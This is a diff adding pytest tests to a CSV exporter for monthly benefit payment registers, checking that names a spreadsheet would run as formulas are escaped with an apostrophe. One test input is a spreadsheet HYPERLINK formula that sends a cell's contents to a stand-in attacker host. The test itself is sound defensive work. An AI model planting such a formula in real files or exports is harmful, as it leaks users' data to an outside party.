@@ -260,3 +260,23 @@ def test_an_empty_register_is_just_the_header():
 def test_a_register_refuses_orders_of_another_month():
     with pytest.raises(ValueError, match="is for 2026-10, not 2026-11"):
         register_csv([order(month="2026-10")], month=MONTH)
+
+
+def test_a_name_a_spreadsheet_would_run_as_a_formula_is_written_as_text():
+    names = ['=HYPERLINK("http://evil.example/?x="&A1,"Серікова")', "+7 701", "-2+3", "@SUM(A1:A2)",
+             "\tTab", "\r=1+1"]
+    batch = [order(order_id=f"P{i}", name=n) for i, n in enumerate(names)]
+    text = register_csv(batch, month=MONTH).decode()
+    assert '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Серікова"")"' in text
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+    assert [r["name"] for r in rows] == ["'" + n for n in names]
+
+
+def test_the_register_is_byte_for_byte_what_it_was_for_ordinary_names():
+    batch = [order(order_id="P2", iin="870101300019", subject=None, name="Серіков, Нұрлан \"Ақан\"", amount_kzt=42000),
+             order(order_id="P1", iin="951231400012", subject="870101300019", name="O'Neil-Ахметова Анна")]
+    assert register_csv(batch, month=MONTH) == (
+        "order_id,month,benefit,iin,subject,name,bank_account,amount_kzt,currency\r\n"
+        "P1,2026-11,birth,951231400012,870101300019,O'Neil-Ахметова Анна,KZ86125KZT5004100100,85000,KZT\r\n"
+        'P2,2026-11,birth,870101300019,,"Серіков, Нұрлан ""Ақан""",KZ86125KZT5004100100,42000,KZT\r\n'
+    ).encode()
